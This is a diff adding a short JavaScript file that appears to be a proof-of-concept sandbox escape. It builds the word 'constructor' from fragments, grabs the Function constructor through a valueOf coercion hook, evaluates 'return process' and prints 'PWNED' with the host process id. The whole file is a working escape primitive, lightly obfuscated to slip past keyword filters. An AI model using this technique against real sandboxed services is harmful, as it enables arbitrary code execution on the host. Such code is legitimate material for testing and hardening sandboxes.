@@ -1,0 +1,6 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const fn = (x) => x;
+let got;
+Number({ valueOf() { got = fn[w]; return 1; } });
+console.log('PWNED', got('return process')().pid);
